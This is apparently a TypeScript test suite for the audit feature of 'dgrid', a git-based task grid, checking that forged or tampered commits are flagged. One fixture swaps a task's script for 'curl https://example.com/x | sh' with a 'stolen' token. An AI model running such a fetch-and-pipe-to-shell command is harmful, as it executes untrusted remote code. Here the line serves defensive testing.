import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { auditGrid, type AuditReport, type AuditRule } from '../src/upkeep/audit.js';
import type { Change } from '../src/git/store.js';
import { GridStore } from '../src/git/store.js';
import { requestCancel } from '../src/admin/grid-admin.js';
import { archiveBranch, cancelPath, queuePath, queueShardPath } from '../src/protocol/layout.js';
import {
  claimTask,
  finishClaim,
  nodeChange,
  rejectFile,
  requeueClaim,
  serialize,
  emptyStream,
} from '../src/protocol/transitions.js';
import { silentLog } from '../src/common/log.js';
import { defaultPolicy } from '../src/protocol/policy.js';
import { reap } from '../src/upkeep/reaper.js';
import type { Claim, NodeRecord, QueuedTask } from '../src/protocol/schemas.js';
import { writeSyntheticHistory } from './audit-fixtures.js';
import { gridFor, runAll, type TestGrid } from './helpers/grid.js';
import { serveGit } from './helpers/http-git.js';
import { plantClaims } from './reap-fixtures.js';

const CLI = new URL('../src/cli/index.js', import.meta.url).pathname;
const POLICY = { retry_backoff_seconds: 0 };

function cli(
  args: string[],
  env: NodeJS.ProcessEnv = {},
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const child = spawn(process.execPath, [CLI, ...args], {
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, ...env },
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c) => (stdout += c));
  child.stderr.on('data', (c) => (stderr += c));
  return new Promise((resolve) => child.on('close', (code) => resolve({ code, stdout, stderr })));
}

function rules(report: AuditReport): AuditRule[] {
  return [...new Set(report.violations.map((v) => v.rule))].sort();
}

test('a real history passes: retries, an orphan, a rejected file, a failed dependency, a cancel', async (t) => {
  const grid = await gridFor(t, POLICY);
  await grid.submit([
    { task_id: 'a1', script: 'true' },
    { task_id: 'a2', script: 'echo two' },
    { task_id: 'flaky', script: 'exit 3', max_attempts: 2 },
    { task_id: 'child', script: 'true', depends_on: ['flaky'] },
    { task_id: 'ghosted', script: 'true' },
    { task_id: 'doomed', script: 'true' },
  ]);
  await pushChanges(grid, [{ path: queuePath('broken'), content: '{"task_id": "broken", ' }], 'a hostile push');
  await requestCancel(grid.store, ['doomed']);
  await plantClaims(grid, 'ghost', ['ghosted'], { heartbeatAgeSeconds: 3600 });
  assert.equal((await reap({ remote: grid.remote, branch: 'main', dryRun: false }, silentLog)).requeued, 1);
  await runAll([grid.worker({ nodeId: 'n1', slots: 2 })]);

  const report = await auditGrid(grid.bare);
  assert.deepEqual(report.violations, []);
  assert.equal(report.ok, true);
  assert.deepEqual((await auditGrid(grid.bare, 'main', { historyBatch: 1 })).figures, report.figures, 'in batches');
  const f = report.figures;
  assert.deepEqual(
    [f.tasks, f.results, f.claims, f.requeues, f.archived],
    [7, 7, 6, 2, 0],
    JSON.stringify(f), // a1, a2, flaky twice, ghosted twice; flaky's retry and ghosted's orphan
  );

  const text = await cli(['audit', '--repository', grid.bare]);
  assert.equal(text.code, 0, text.stderr);
  assert.match(
    text.stdout,
    /^audit passed: main at [0-9a-f]{12}: replayed \d+ commits in [\d.]+ s: 7 tasks, 6 claims/m,
  );
  const json = await cli(['audit', '--repository', grid.bare, '--json']);
  assert.equal(json.code, 0, json.stderr);
  assert.deepEqual((JSON.parse(json.stdout) as AuditReport).figures, f);
});

/** Pushes a commit of arbitrary changes on the tip, as someone bypassing dgrid would; returns it. */
async function pushChanges(grid: TestGrid, changes: Change[], message: string, author = 'tamperer'): Promise<string> {
  const tip = await grid.store.fetch();
  const commit = await grid.store.commit(tip, changes, `${message}\n`, author);
  assert.equal(await grid.store.push(commit), 'pushed');
  return commit;
}

/** Claims a queued task for `node` exactly as a worker would, in a commit of its own. */
async function claim(grid: TestGrid, id: string, node: string): Promise<{ path: string; claim: Claim }> {
  const snapshot = await grid.snapshot();
  const file = snapshot.byId.get(id)![0]!;
  const task = (await snapshot.readJson([file])).get(file) as QueuedTask;
  const plan = claimTask(file, task, node, new Date(), defaultPolicy());
  await pushChanges(grid, plan.changes, `claim ${id}`);
  return { path: plan.changes[1]!.path, claim: plan.claim };
}

const success = () => ({
  status: 'success' as const,
  exitCode: 0,
  stdout: emptyStream(),
  stderr: emptyStream(),
  startedAt: new Date(),
  finishedAt: new Date(),
});

/** A node file as a worker writes it. */
function nodeFile(
  id: string,
  status: NodeRecord['status'],
  tasks: string[],
  incarnation = 'i-1',
  completed = 0,
): Change {
  const at = new Date().toISOString();
  return nodeChange({
    node_id: id,
    labels: [],
    slots: 1,
    version: 'test',
    started_at: at,
    incarnation,
    last_heartbeat: at,
    status,
    tasks,
    completed,
    failed: 0,
  });
}

/** Each breach of the rules, made by hand on a fresh grid; the audit names its commit, task and rule. */
const breaches: { rule: AuditRule; name: string; make(grid: TestGrid): Promise<string> }[] = [
  {
    rule: 'one-place',
    name: 'a queued task copied to a sub-folder of the queue',
    make: (grid) =>
      pushChanges(
        grid,
        [{ path: 'tasks/queue/high/x.json', content: serialize({ task_id: 'x', script: 'true' }) }],
        'copy',
      ),
  },
  {
    rule: 'lost',
    name: 'a queued task deleted',
    make: (grid) => pushChanges(grid, [{ path: queueShardPath('x'), delete: true }], 'delete'),
  },
  {
    rule: 'fencing',
    name: 'the result of an orphaned claim written over the newer claim',
    make: async (grid) => {
      const first = await claim(grid, 'x', 'n1');
      await pushChanges(grid, requeueClaim(first.path, first.claim, 'orphaned', 'test', new Date()).changes, 'requeue');
      const second = await claim(grid, 'x', 'n2');
      const late = finishClaim(first.path, first.claim, success());
      return pushChanges(grid, [{ path: second.path, delete: true }, late.changes[1]!], 'late result');
    },
  },
  {
    rule: 'unclaimed',
    name: 'a running task failed without its claim, as if rejected from the queue',
    make: async (grid) => {
      const { path } = await claim(grid, 'x', 'n1');
      const file = {
        id: 'x',
        state: 'in_progress' as const,
        entry: { mode: '100644', type: 'blob' as const, sha: '', size: 0, path },
      };
      return pushChanges(grid, rejectFile(file, 'no reason', 'n1', new Date()), 'reject');
    },
  },
  {
    rule: 'attempt-order',
    name: 'a retry claimed with the attempt number of the first try',
    make: async (grid) => {
      const first = await claim(grid, 'x', 'n1');
      await pushChanges(grid, requeueClaim(first.path, first.claim, 'orphaned', 'test', new Date()).changes, 'requeue');
      const snapshot = await grid.snapshot();
      const file = snapshot.byId.get('x')![0]!;
      const plan = claimTask(
        file,
        (await snapshot.readJson([file])).get(file) as QueuedTask,
        'n2',
        new Date(),
        defaultPolicy(),
      );
      const forged = { ...plan.claim, claim: { ...plan.claim.claim, attempt: 1 } };
      return pushChanges(
        grid,
        [plan.changes[0]!, { path: plan.changes[1]!.path, content: serialize(forged) }],
        'claim',
      );
    },
  },
  {
    rule: 'completed-twice',
    name: 'a claim requeued and then finished',
    make: async (grid) => {
      const first = await claim(grid, 'x', 'n1');
      const { task, changes } = requeueClaim(first.path, first.claim, 'orphaned', 'test', new Date());
      await pushChanges(grid, changes, 'requeue');
      // The queued task moves back to in_progress under the same token, then finishes.
      const again: Claim = { ...task, claim: first.claim.claim };
      await pushChanges(
        grid,
        [
          { path: queueShardPath('x'), delete: true },
          { path: first.path, content: serialize(again) },
        ],
        'reclaim',
      );
      return pushChanges(grid, finishClaim(first.path, again, success()).changes, 'finish');
    },
  },
  {
    rule: 'requeue',
    name: 'a claim put back in the queue without recording its attempt',
    make: async (grid) => {
      const { path } = await claim(grid, 'x', 'n1');
      return pushChanges(
        grid,
        [
          { path, delete: true },
          { path: queuePath('x'), content: serialize({ task_id: 'x', script: 'true' }) },
        ],
        'requeue',
      );
    },
  },
  {
    rule: 'terminal-twice',
    name: 'a finished task submitted again',
    make: async (grid) => {
      const { path, claim: held } = await claim(grid, 'x', 'n1');
      await pushChanges(grid, finishClaim(path, held, success()).changes, 'finish');
      return pushChanges(
        grid,
        [{ path: queuePath('x'), content: serialize({ task_id: 'x', script: 'true' }) }],
        'again',
      );
    },
  },
  {
    rule: 'cancel',
    name: 'a cancelled task whose run failed with attempts left, requeued and claimed again',
    make: async (grid) => {
      const first = await claim(grid, 'x', 'n1');
      await requestCancel(grid.store, ['x']);
      const { changes } = requeueClaim(first.path, first.claim, 'failure', 'exit code 1', new Date(), { exitCode: 1 });
      await pushChanges(grid, [...changes, { path: cancelPath('x'), delete: true }], 'requeue, cancel dropped');
      await claim(grid, 'x', 'n2');
      return (await grid.store.fetch())!;
    },
  },
  {
    rule: 'fresh-reap',
    name: 'a claim requeued as orphaned by a reaper a second after its node heartbeat (the reaper dates it a minute on)',
    make: async (grid) => {
      await plantClaims(grid, 'n1', ['x'], { heartbeatAgeSeconds: 1 });
      const snapshot = await grid.snapshot();
      const file = snapshot.of('in_progress')[0]!;
      const held = (await snapshot.readJson([file])).get(file) as Claim;
      const reaped = requeueClaim(
        file.entry.path,
        held,
        'orphaned',
        'node n1 is silent',
        new Date(Date.now() + 60_000),
      );
      return pushChanges(grid, reaped.changes, 'reap');
    },
  },
  {
    rule: 'terminal-twice',
    name: 'a finished task run again after its result was archived, its result overwritten',
    make: async (grid) => {
      const { path, claim: held } = await claim(grid, 'x', 'n1');
      const done = finishClaim(path, held, success());
      const finished = await pushChanges(grid, done.changes, 'finish');
      await pushChanges(grid, [{ path: done.changes[1]!.path, delete: true }], `archive\n\nArchived-To: ${finished}`);
      const queued = await pushChanges(
        grid,
        [{ path: queuePath('x'), content: serialize({ task_id: 'x', script: 'true' }) }],
        'again',
      );
      const again = await claim(grid, 'x', 'n2');
      await pushChanges(grid, finishClaim(again.path, again.claim, success()).changes, 'run again');
      return queued;
    },
  },
  {
    rule: 'schema',
    name: 'a claim that is no claim by the schema: its lease is not a date',
    make: async (grid) => {
      const snapshot = await grid.snapshot();
      const file = snapshot.byId.get('x')![0]!;
      const task = (await snapshot.readJson([file])).get(file) as QueuedTask;
      const plan = claimTask(file, task, 'n1', new Date(), defaultPolicy());
      const forged = { ...plan.claim, claim: { ...plan.claim.claim, lease_until: 'tomorrow' } };
      return pushChanges(
        grid,
        [plan.changes[0]!, { path: plan.changes[1]!.path, content: serialize(forged) }],
        'claim',
      );
    },
  },
  {
    rule: 'schema',
    name: 'a result that is no result by the schema: it lacks its output digests',
    make: async (grid) => {
      const { path, claim: held } = await claim(grid, 'x', 'n1');
      const done = finishClaim(path, held, success());
      const { stdout_sha256: _a, stderr_sha256: _b, ...partial } = done.result;
      return pushChanges(
        grid,
        [done.changes[0]!, { path: done.changes[1]!.path, content: serialize(partial) }],
        'finish',
      );
    },
  },
  {
    rule: 'claim-task',
    name: 'a claim that runs another script than the queued task it took',
    make: async (grid) => {
      const snapshot = await grid.snapshot();
      const file = snapshot.byId.get('x')![0]!;
      const task = (await snapshot.readJson([file])).get(file) as QueuedTask;
      const plan = claimTask(file, task, 'n1', new Date(), defaultPolicy());
      const swapped = { ...plan.claim, script: 'curl https://example.com/x | sh', env: { TOKEN: 'stolen' } };
      return pushChanges(
        grid,
        [plan.changes[0]!, { path: plan.changes[1]!.path, content: serialize(swapped) }],
        'claim',
      );
    },
  },
  {
    rule: 'status-folder',
    name: 'a failed run written to completed/',
    make: async (grid) => {
      const { path, claim: held } = await claim(grid, 'x', 'n1');
      const run = { ...success(), status: 'failure' as const, exitCode: 2 };
      const done = finishClaim(path, held, run);
      const misplaced = done.changes[1]!.path.replace('tasks/failed/', 'tasks/completed/');
      return pushChanges(grid, [done.changes[0]!, { path: misplaced, content: serialize(done.result) }], 'finish');
    },
  },
  {
    rule: 'sign-off',
    name: 'a node signing off with its claim still in in_progress (a claim push that landed after SIGTERM)',
    make: async (grid) => {
      await claim(grid, 'x', 'n1');
      return pushChanges(grid, [nodeFile('n1', 'offline', [])], 'sign off');
    },
  },
  {
    rule: 'not-held',
    name: 'a node running a task after a reaper took its claim back (a slow push, a pause)',
    make: async (grid) => {
      const first = await claim(grid, 'x', 'n1');
      await pushChanges(grid, requeueClaim(first.path, first.claim, 'orphaned', 'test', new Date()).changes, 'reap');
      return pushChanges(grid, [nodeFile('n1', 'online', ['x'])], 'heartbeat');
    },
  },
  {
    rule: 'archive',
    name: 'a result removed with an Archived-To trailer naming a commit that does not hold it',
    make: async (grid) => {
      const { path, claim: held } = await claim(grid, 'x', 'n1');
      const done = finishClaim(path, held, success());
      const finished = await pushChanges(grid, done.changes, 'finish');
      return pushChanges(grid, [{ path: done.changes[1]!.path, delete: true }], `archive\n\nArchived-To: ${finished}`);
    },
  },
];

for (const breach of breaches) {
  test(`the rule ${breach.rule} catches its breach, naming the commit and the task: ${breach.name}`, async (t) => {
    const grid = await gridFor(t, POLICY);
    await grid.submit([{ task_id: 'x', script: 'true' }]);
    const commit = await breach.make(grid);
    const report = await auditGrid(grid.bare);
    assert.equal(report.ok, false, breach.name);
    const found = report.violations.find((v) => v.rule === breach.rule);
    assert.ok(found, `${breach.name}: expected ${breach.rule}, got ${JSON.stringify(report.violations)}`);
    assert.equal(found.task, 'x', breach.name);
    assert.equal(found.commit, commit, breach.name);
    if (breach.rule === 'one-place' || breach.rule === 'lost') {
      assert.deepEqual(rules(report), [breach.rule], breach.name);
    }
    // Replayed a commit at a time, every record a commit moves or ends is read again: the same findings.
    const batched = await auditGrid(grid.bare, 'main', { historyBatch: 1 });
    assert.deepEqual([batched.violations, batched.figures], [report.violations, report.figures], breach.name);
    const text = await cli(['audit', '--repository', grid.bare]);
    assert.equal(text.code, 1, breach.name);
    assert.ok(text.stdout.includes(`commit ${commit.slice(0, 12)}: task x: ${breach.rule}: `), text.stdout);
    assert.match(text.stdout, /audit FAILED: \d+ violation\(s\)/);
  });
}

test('future-heartbeat: a dead node whose clock was an hour ahead is flagged where its heartbeat landed', async (t) => {
  const grid = await gridFor(t, POLICY);
  await grid.submit([{ task_id: 'x', script: 'true' }]);
  await plantClaims(grid, 'ahead', ['x'], { heartbeatAgeSeconds: -3600 });
  const planted = (await grid.store.fetch())!;
  const reaped = await reap({ remote: grid.remote, branch: 'main', dryRun: false }, silentLog);
  assert.ok(reaped.actions.some((a) => a.action === 'distrust-heartbeat'));
  const report = await auditGrid(grid.bare);
  assert.deepEqual(
    report.violations.map((v) => [v.commit, v.task, v.rule]),
    [[planted, 'ahead', 'future-heartbeat']],
    'the reaper that counted it from its own now is not flagged',
  );
  assert.match(report.violations[0]!.message, /dated 3\d{3} s after commit [0-9a-f]{12} by dgrid-reaper-/);
});

test('archived results: the audit follows Archived-To into <branch>-archive', async (t) => {
  if (spawnSync('faketime', ['-f', '+0s', 'true']).status !== 0) return t.skip('faketime is not installed');
  // A grace of 100 days lets a node whose clock is 40 days behind run (half of grace is what a node may be off).
  const grid = await gridFor(t, { ...POLICY, lease: { grace_seconds: 100 * 86_400 } });
  await grid.submit([
    { task_id: 'old1', script: 'true' },
    { task_id: 'old2', script: 'true' },
  ]);
  // A node whose clock is 40 days behind writes its results into day folders past the retention (30 days).
  const worker = spawn(
    'faketime',
    [
      '-f',
      '-40d',
      process.execPath,
      CLI,
      'worker',
      '--repository',
      grid.bare,
      '--node-id',
      'past',
      '--sandbox',
      'none',
    ].concat(['--poll-interval-seconds', '0.1', '--idle-timeout-seconds', '1']),
    { stdio: 'ignore', env: { ...process.env, TMPDIR: grid.dir } },
  );
  await new Promise((resolve) => worker.on('close', resolve));
  await grid.submit([{ task_id: 'recent', script: 'true' }]);
  await runAll([grid.worker({ nodeId: 'now' })]);
  const reaped = await reap({ remote: grid.remote, branch: 'main', dryRun: false }, silentLog);
  assert.equal(reaped.actions.filter((a) => a.action === 'archive').length, 1, JSON.stringify(reaped.actions));

  const report = await auditGrid(grid.bare);
  assert.deepEqual(report.violations, []);
  assert.equal(report.figures.archived, 2);
  assert.equal(report.figures.results, 3);

  // Losing a file from the archive branch is losing the task.
  const archive = await GridStore.open({
    remote: grid.remote,
    branch: archiveBranch('main'),
    dir: join(grid.dir, 'cache-archive'),
  });
  const tip = await archive.fetch();
  const old1 = (await archive.list(tip!, ['tasks'])).find((e) => e.path.endsWith('/old1.json'))!;
  const cut = await archive.commit(tip, [{ path: old1.path, delete: true }], 'cut\n', 'tamperer');
  assert.equal(await archive.push(cut), 'pushed');
  const after = await auditGrid(grid.bare);
  assert.deepEqual(
    after.violations.map((v) => [v.task, v.rule]),
    [['old1', 'archive']],
  );
});

test('dgrid audit over smart HTTP reads the full history with the token from DGRID_TOKEN', async (t) => {
  const grid = await gridFor(t, POLICY);
  const token = 'ghs_audittoken0123456789';
  const server = await serveGit(grid.dir, token);
  t.after(() => server.close());
  await grid.submit([{ task_id: 'h1', script: 'true' }]);
  await runAll([grid.worker({ nodeId: 'n1' })]);
  const env = { TMPDIR: grid.dir, DGRID_TOKEN: token };
  const run = await cli(['audit', '--repository', `${server.url}/grid.git`, '--json'], env);
  assert.equal(run.code, 0, run.stderr);
  const report = JSON.parse(run.stdout) as AuditReport;
  assert.deepEqual([report.ok, report.figures.tasks, report.figures.results], [true, 1, 1]);
  assert.ok(server.requests.every((r) => !r.includes(token)));
  const refused = await cli(['audit', '--repository', `${server.url}/grid.git`], { TMPDIR: grid.dir });
  assert.equal(refused.code, 1);
});

test('scale: a synthetic history of 2,000 tasks is audited in seconds (bench/audit.ts runs 10,000)', async (t) => {
  const grid = await gridFor(t);
  const bare = join(grid.dir, 'synthetic.git');
  const written = await writeSyntheticHistory(bare, 2000);
  const report = await auditGrid(bare);
  assert.deepEqual(report.violations, []);
  assert.equal(report.figures.tasks, 2000);
  assert.equal(report.figures.commits, written.commits);
  assert.ok(report.figures.requeues > 100, JSON.stringify(report.figures));
  console.log(`# audit of 2,000 tasks, ${written.commits} commits: ${report.ms} ms`);
});

test('two incarnations of one node id writing its node file in turn are flagged; a restart is not', async (t) => {
  const grid = await gridFor(t, POLICY);
  await pushChanges(grid, [nodeFile('n1', 'online', [], 'first')], 'start');
  await pushChanges(grid, [nodeFile('n1', 'online', [], 'second')], 'restart');
  assert.deepEqual((await auditGrid(grid.bare)).violations, [], 'a restart replaces the incarnation');
  const back = await pushChanges(grid, [nodeFile('n1', 'online', [], 'first')], 'the first again');
  const report = await auditGrid(grid.bare);
  assert.deepEqual(
    report.violations.map((v) => [v.commit, v.task, v.rule]),
    [[back, 'nodes/n1.json', 'incarnation']],
  );
  assert.match(
    report.violations[0]!.message,
    /incarnation first of n1 after second replaced it: two processes ran as n1/,
  );
});

test("a node's counters that leave out a result it wrote are flagged (a push that reported an error but landed)", async (t) => {
  const grid = await gridFor(t, POLICY);
  await grid.submit([{ task_id: 'x', script: 'true' }]);
  const held = await claim(grid, 'x', 'n1');
  await pushChanges(grid, [nodeFile('n1', 'online', ['x'])], 'heartbeat', 'n1');
  const done = finishClaim(held.path, held.claim, success());
  await pushChanges(grid, [...done.changes, nodeFile('n1', 'online', [], 'i-1', 1)], 'finish', 'n1');
  assert.deepEqual((await auditGrid(grid.bare)).violations, [], 'the result is counted once');
  // The node took its push for lost: its next heartbeat counts from the record before it.
  const stale = await pushChanges(grid, [nodeFile('n1', 'online', [], 'i-1', 0)], 'heartbeat', 'n1');
  const report = await auditGrid(grid.bare);
  assert.deepEqual(
    report.violations.map((v) => [v.commit, v.task, v.rule]),
    [[stale, 'nodes/n1.json', 'counters']],
  );
});
